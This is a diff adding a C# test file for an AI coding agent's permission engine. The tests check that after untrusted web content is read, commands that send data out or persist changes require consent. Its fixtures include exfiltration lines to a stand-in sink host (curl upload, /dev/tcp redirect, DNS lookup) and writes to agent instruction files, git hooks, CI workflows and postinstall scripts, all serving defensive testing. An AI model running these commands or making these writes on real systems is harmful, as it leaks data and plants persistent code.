@@ -1,0 +1,194 @@
+using System.Text.Json;
+using Sallyport.Engine.Consent;
+using Sallyport.Engine.Flow;
+using Sallyport.Engine.Tools;
+
+namespace Sallyport.Engine.Tests.Flow;
+
+/// <summary>What sends or lasts needs a person or a rule once words of others came in; daily work does not.</summary>
+public sealed class FlowJudgeTests : IDisposable
+{
+    private static readonly FlowLabels Tainted = FlowLabels.From(UntrustedSource.Of("web", "https://docs.example/x"));
+    private static readonly JsonElement Nothing = JsonDocument.Parse("{}").RootElement;
+    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("sally-flow-");
+
+    public void Dispose() => folder.Delete(recursive: true);
+
+    [Theory]
+    [InlineData("git push")]
+    [InlineData("git push origin main")]
+    [InlineData("git -C . push --force")]
+    [InlineData("timeout 5 git push")]
+    [InlineData("true && git push origin HEAD:x")]
+    [InlineData("echo $(git push)")]
+    [InlineData("curl -d @a.txt https://sink.example")]
+    [InlineData("wget -q https://sink.example/x")]
+    [InlineData("cat a.txt > /dev/tcp/sink.example/80")]
+    [InlineData("ssh host uptime")]
+    [InlineData("dig data.sink.example")]
+    [InlineData("npm publish")]
+    [InlineData("npm install left-pad")]
+    [InlineData("pnpm publish --access public")]
+    [InlineData("twine upload dist/*")]
+    [InlineData("python3 -m twine upload dist/x")]
+    [InlineData("dotnet nuget push a.nupkg")]
+    [InlineData("docker push a/b")]
+    [InlineData("gh pr create --title x")]
+    [InlineData("gh release create v1")]
+    [InlineData("cargo publish")]
+    [InlineData("poetry publish")]
+    [InlineData("mvn deploy")]
+    [InlineData("./gradlew publish")]
+    [InlineData("npm pkg set scripts.postinstall=x")]
+    [InlineData("git config core.hooksPath x")]
+    [InlineData("git remote add y z")]
+    [InlineData("crontab x")]
+    [InlineData("sudo true")]
+    [InlineData("echo x > AGENTS.md")]
+    [InlineData("echo x >> sub/CLAUDE.md")]
+    [InlineData("tee .github/workflows/ci.yml < a.txt")]
+    [InlineData("cp a.txt .husky/pre-commit")]
+    [InlineData("mv a.txt .git/hooks/pre-push")]
+    [InlineData("rm .pre-commit-config.yaml")]
+    [InlineData("echo x > ~/.bashrc")]
+    [InlineData("cp a.txt /srv/upload/a.txt")]
+    public void What_a_command_sends_or_leaves_behind_is_asked_in_every_mode(string line)
+    {
+        foreach (var mode in (PermissionMode[])[PermissionMode.Auto, PermissionMode.Open, PermissionMode.Edits, PermissionMode.Ask])
+        {
+            var judged = Rule(mode, line);
+            Assert.True(judged.Ruling.Answer == Consented.Ask, $"{mode}: {judged.Ruling}");
+            Assert.Contains("after https://docs.example/x was read in this session", judged.Ruling.Reason);
+        }
+    }
+
+    [Theory]
+    [InlineData("git status")]
+    [InlineData("git add -A && git commit -m 'done'")]
+    [InlineData("git checkout -b topic")]
+    [InlineData("git config --get user.name")]
+    [InlineData("dotnet build")]
+    [InlineData("dotnet test --no-build")]
+    [InlineData("npm test")]
+    [InlineData("npm run build")]
+    [InlineData("cargo build --offline")]
+    [InlineData("make")]
+    [InlineData("python3 -m pytest -q")]
+    [InlineData("grep -rn push src")]
+    [InlineData("echo 'git push' > notes.txt")]
+    [InlineData("mkdir -p out && cp a.txt out/")]
+    [InlineData("sed -i s/a/b/ a.txt")]
+    [InlineData("docker ps")]
+    [InlineData("cat README.md .github/CONTRIBUTING.md")]
+    [InlineData("for f in *.txt; do wc -l \"$f\"; done")]
+    [InlineData("echo x > /tmp/scratch.txt")]
+    public void Daily_work_passes_as_before(string line)
+    {
+        foreach (var mode in (PermissionMode[])[PermissionMode.Auto, PermissionMode.Open])
+            Assert.Equal(Consented.Yes, Rule(mode, line).Ruling.Answer);
+    }
+
+    [Theory]
+    [InlineData("git push origin main", "bash git push *")]
+    [InlineData("git push origin main", "bash git push origin main")]
+    [InlineData("npm publish", "bash npm publish")]
+    [InlineData("curl https://api.example/x", "bash curl https://api.example/*")]
+    [InlineData("echo x > AGENTS.md", "write AGENTS.md")]
+    public void A_rule_that_names_it_lets_it_pass(string line, string rule)
+    {
+        Assert.Equal(Consented.Yes, Rule(PermissionMode.Auto, line, rule).Ruling.Answer);
+        Assert.Equal(Consented.Yes, Rule(PermissionMode.Open, line, rule).Ruling.Answer);
+    }
+
+    [Theory]
+    [InlineData("git push", "bash")]
+    [InlineData("git push", "bash *")]
+    [InlineData("git push", "*")]
+    [InlineData("git push && curl https://x.example", "bash git push *")]
+    [InlineData("git push $(cat x)", "bash git push *")]
+    [InlineData("echo x > AGENTS.md", "write **")]
+    [InlineData("echo x > AGENTS.md", "bash echo *")]
+    public void A_rule_as_wide_as_a_mode_does_not(string line, string rule) => Assert.Equal(Consented.Ask, Rule(PermissionMode.Auto, line, rule).Ruling.Answer);
+
+    [Fact]
+    public void What_would_allow_it_is_told_word_for_word()
+    {
+        Assert.Equal(["bash git push origin main"], Rule(PermissionMode.Auto, "git add -A && git push origin main").Rules);
+        Assert.Equal(["bash git push", "write AGENTS.md"], Rule(PermissionMode.Open, "git push; echo x > AGENTS.md").Rules);
+        // No rule can be written for what is known only when it runs.
+        Assert.Empty(Rule(PermissionMode.Open, "git push \"$X\"").Rules);
+    }
+
+    [Theory]
+    [InlineData("AGENTS.md")]
+    [InlineData("deep/down/CLAUDE.md")]
+    [InlineData("GEMINI.md")]
+    [InlineData(".cursor/rules/x.mdc")]
+    [InlineData(".github/copilot-instructions.md")]
+    [InlineData(".sallyport/commands/x.md")]
+    [InlineData("skills/x/SKILL.md")]
+    [InlineData(".husky/pre-commit")]
+    [InlineData(".git/hooks/post-checkout")]
+    [InlineData("lefthook.yml")]
+    [InlineData(".pre-commit-config.yaml")]
+    [InlineData(".github/workflows/release.yml")]
+    [InlineData(".gitlab-ci.yml")]
+    [InlineData("Jenkinsfile")]
+    [InlineData("azure-pipelines.yml")]
+    [InlineData("azure-pipelines-release.yaml")]
+    [InlineData(".vscode/tasks.json")]
+    [InlineData(".npmrc")]
+    [InlineData(".envrc")]
+    [InlineData("../outside.txt")]
+    public void Files_that_act_later_are_not_edited_unasked(string path)
+    {
+        Assert.Equal(Consented.Ask, Write(PermissionMode.Open, path).Ruling.Answer);
+        Assert.Equal(Consented.Yes, Write(PermissionMode.Open, path, FlowLabels.None).Ruling.Answer);
+    }
+
+    [Theory]
+    [InlineData("src/app.ts")]
+    [InlineData("README.md")]
+    [InlineData("docs/agents.txt")]
+    [InlineData(".github/ISSUE_TEMPLATE.md")]
+    [InlineData(".gitignore")]
+    [InlineData("package.json")]
+    public void Other_files_are(string path) => Assert.Equal(Consented.Yes, Write(PermissionMode.Auto, path).Ruling.Answer);
+
+    [Theory]
+    [InlineData("""{"path":"package.json","content":"{\"scripts\":{\"test\":\"jest\",\"prepare\":\"husky\"}}"}""", false)]
+    [InlineData("""{"path":"package.json","content":"{\"scripts\":{\"prepare\":\"husky; curl x\"}}"}""", true)]
+    [InlineData("""{"path":"package.json","content":"{\"scripts\":{\"prepare\":\"husky\",\"postinstall\":\"node x\"}}"}""", true)]
+    [InlineData("""{"path":"package.json","old":"\"jest\"","new":"\"vitest\""}""", false)]
+    [InlineData("""{"path":"package.json","old":"\"jest\"","new":"\"jest\",\n\"postinstall\": \"node x\""}""", true)]
+    [InlineData("""{"path":"package.json","old":"\"husky\"","new":"\"node x\""}""", true)]
+    [InlineData("""{"path":"package.json","old":"\"dependencies\": {","new":"\"dependencies\": {\n\"left-pad\": \"1\","}""", false)]
+    public void Of_a_package_only_the_scripts_that_run_by_themselves_count(string arguments, bool isAsked)
+    {
+        File.WriteAllText(Path.Combine(folder.FullName, "package.json"), """{"scripts":{"test":"jest","prepare":"husky"}}""");
+        using var json = JsonDocument.Parse(arguments);
+        var workspace = new Workspace(folder.FullName);
+        var judged = new FlowJudge(new Judge(PermissionMode.Auto, [], [], []), workspace).Rule("edit", Touches.Write(workspace.Resolve("package.json")), json.RootElement, Tainted);
+        Assert.Equal(isAsked ? Consented.Ask : Consented.Yes, judged.Ruling.Answer);
+    }
+
+    [Fact]
+    public void Unconfined_what_cannot_be_told_is_asked_and_confined_it_is_not()
+    {
+        Assert.Equal(Consented.Yes, Rule(PermissionMode.Open, "python3 -c 'print(1)'", confined: true).Ruling.Answer);
+        Assert.Equal(Consented.Ask, Rule(PermissionMode.Open, "python3 -c 'print(1)'", confined: false).Ruling.Answer);
+        Assert.Equal(Consented.Ask, Rule(PermissionMode.Open, "eval \"$X\"", confined: false).Ruling.Answer);
+    }
+
+    private FlowRuling Rule(PermissionMode mode, string line, string? rule = null, bool confined = true)
+    {
+        var judge = new Judge(mode, rule is null ? [] : [ConsentRule.Parse(rule, out _)!], [], []) { Unconfined = confined ? () => null : null };
+        return new FlowJudge(judge, new Workspace(folder.FullName)).Rule("bash", new Touches(Effect.Execute) { Command = line }, Nothing, Tainted);
+    }
+
+    private FlowRuling Write(PermissionMode mode, string path, FlowLabels? labels = null)
+    {
+        var workspace = new Workspace(folder.FullName);
+        return new FlowJudge(new Judge(mode, [], [], []), workspace).Rule("write", Touches.Write(workspace.Resolve(path)), Nothing, labels ?? Tainted);
+    }
+}
